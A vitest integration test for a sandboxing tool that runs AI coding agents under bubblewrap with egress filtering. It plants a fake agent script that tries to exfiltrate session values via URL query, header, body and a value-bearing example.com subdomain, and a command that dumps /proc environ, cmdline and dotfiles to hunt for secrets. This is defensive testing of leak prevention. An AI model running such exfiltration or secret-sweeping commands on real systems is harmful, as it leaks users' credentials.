import { spawnSync } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { describe, expect, test } from 'vitest';
import { upstream } from '../parity/scene.ts';
import { cliPath, runCli } from '../rig/bottle-cli.ts';
import { requireOrSkip, skipWithout } from '../rig/require.ts';
import { tempDir } from '../rig/temp-dir.ts';
import { Tmux } from '../rig/tmux.ts';

const noTmux = requireOrSkip('tmux', () =>
  spawnSync('tmux', ['-V']).status === 0 ? undefined : 'tmux is not installed',
);

/** Asks its model, tries to send what it was given elsewhere, and stays until it is told to end. */
const AGENT = `#!/bin/sh
ask() { curl -s -o /dev/null -w '%{http_code} ' "$@"; }
ask https://api.anthropic.com/v1/messages
ask "https://api.anthropic.com/v1/messages?take=$FROM_HOST"
ask https://api.anthropic.com/v1/messages -H "x-take: $FROM_HOST"
ask https://api.anthropic.com/v1/messages -d "$ASKED"
ask "https://$ASKED.example.com/"
echo "for $(printf %s "$FROM_HOST$ASKED" | wc -c)"
read line
exit 3
`;

/** What a value looks like when it is written down in another form. */
const formsOf = (value: string) => [
  value,
  encodeURIComponent(value),
  Buffer.from(value).toString('base64').replace(/=+$/, ''),
  Buffer.from(value).toString('hex'),
];

/** Every file below, with what it holds. */
function* filesOf(directory: string): Generator<readonly [string, string]> {
  for (const entry of readdirSync(directory, { recursive: true, withFileTypes: true })) {
    const path = join(entry.parentPath, entry.name);
    if (entry.isFile()) yield [path, readFileSync(path, 'latin1')];
  }
}

function commandLine(pid: string): string {
  try {
    return readFileSync(`/proc/${pid}/cmdline`, 'latin1');
  } catch {
    // It has ended.
    return '';
  }
}

/** The argument lists of everything that runs on this machine. */
function commandLines(): string {
  const pids = readdirSync('/proc').filter((name) => /^\d+$/.test(name));
  return pids.map(commandLine).join('\n');
}

/** All that a process has started (proc_pid_task(5)). */
function below(pid: number): readonly string[] {
  try {
    const children = readFileSync(`/proc/${pid}/task/${pid}/children`, 'utf8').trim().split(' ');
    return children.filter((child) => child !== '').flatMap((child) => [child, ...below(Number(child))]);
  } catch {
    return [];
  }
}

describe.skipIf(noTmux || skipWithout('bubblewrap'))('the values of a session', () => {
  test('stand on no command line, in no file, log or report, and in no other bottle', async () => {
    await using root = await tempDir('secrets');
    await using server = await upstream('api.anthropic.com', undefined);
    const [home, work, top] = [
      join(root.path, 'home'),
      join(root.path, 'work'),
      join(root.path, 'home/.bot-bottle'),
    ];
    const values = {
      credential: `sk-ant-oat01-${randomBytes(24).toString('base64url')}`,
      forwarded: `fwd-${randomBytes(18).toString('base64url')}`,
      // May be a part of a host's name.
      asked: `ask-${randomBytes(18).toString('hex')}`,
    };
    const write = (path: string, text: string, mode = 0o644) => {
      mkdirSync(dirname(path), { recursive: true });
      writeFileSync(path, text, { mode });
    };
    mkdirSync(work, { recursive: true });
    write(join(home, 'bin/claude'), AGENT, 0o755);
    write(
      join(top, 'bottles/dev.md'),
      `---
env: {FROM_HOST: "$${'{HOST_VALUE}'}", ASKED: "?What is it?", LITERAL: text}
agent_provider: {auth_token: TOKEN}
egress: {log: 2}
supervise: false
---
`,
    );
    write(join(top, 'agents/reviewer.md'), '---\nbottle: dev\n---\nYou review.\n');
    // Not by tmux, which has its variables on its command line.
    write(
      join(root.path, 'rc'),
      `export TOKEN='${values.credential}' HOST_VALUE='${values.forwarded}'
PATH='${join(home, 'bin')}:${dirname(process.execPath)}:/usr/local/bin:/usr/bin:/bin'
bot() { '${process.execPath}' '${cliPath}' "$@"; }\n`,
      0o600,
    );
    using screen = new Tmux({
      cwd: work,
      env: { HOME: home, PS1: 'host> ', HISTFILE: '/dev/null', BOT_BOTTLE_BACKEND: 'bubblewrap' },
      columns: 160,
    });
    screen.record(join(root.path, 'raw'));
    screen.type(`. ${root.path}/rc; clear`);
    await screen.shows(/^host>\s*$/);

    screen.type(`bot --debug start reviewer --yes --label one ${server.flags.join(' ')}; echo "code $?"`);
    await screen.shows(/ASKED: What is it\?/);
    screen.type(values.asked);
    const length = values.forwarded.length + values.asked.length;
    await screen.shows(new RegExp(`^200 403 403 403 000 for ${length}$`, 'm'));
    expect(server.authorizations).toEqual([`Bearer ${values.credential}`]);

    const look = (where: string, text: string, forbidden = Object.values(values)) => {
      for (const form of forbidden.flatMap(formsOf))
        expect(`${where}: ${text.includes(form)}`).toBe(`${where}: false`);
    };
    const lookAround = async () => {
      look('command lines', commandLines());
      let files = 0;
      for (const [path, text] of filesOf(top)) {
        look(path, text);
        files += 1;
      }
      expect(files).toBeGreaterThan(4);
      look('the terminal', await screen.recorded('for '));
    };
    await lookAround();
    expect(readFileSync(join(top, 'state/one/egress/audit.jsonl'), 'utf8')).toContain('/v1/messages');

    const cli = (args: readonly string[]) =>
      runCli(args, { cwd: work, home, env: { BOT_BOTTLE_BACKEND: 'bubblewrap' } });
    const inside =
      'cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline; find / -xdev -type f -size -64k -newer /proc/1 -exec cat {} + 2>/dev/null; cat ~/.[!.]* 2>/dev/null';
    const own = await cli(['exec', 'one', '--', 'sh', '-c', inside]);
    expect(own.stdout).toContain(values.forwarded);
    expect(own.stdout).toContain(values.asked);
    look('its own bottle', own.stdout, [values.credential]);
    const other = await cli(['run', '--', 'sh', '-c', inside]);
    expect(other.stdout).toContain('BOT_BOTTLE_SLUG=');
    look('another bottle', other.stdout);
    for (const args of [
      ['list', '--json'],
      ['logs', 'one'],
      ['info', 'reviewer', '--json'],
      ['commit', 'one'],
    ]) {
      const { stdout, stderr } = await cli(['--debug', ...args]);
      look(args.join(' '), stdout + stderr);
    }

    // Egress crashes under the agent, in the way that leaves a core where one is left.
    const egress = below(screen.shell()).filter((pid) =>
      /^\/bot-bottle\/node\0.*\0egress\0/.test(commandLine(pid)),
    );
    expect(egress).toHaveLength(1);
    process.kill(Number(egress[0]), 'SIGSEGV');
    const report = await screen.shows(/code \d+\n/);
    expect(report).toMatch(/error: .*egress/);
    look('the report', report);
    await lookAround();
  });
});
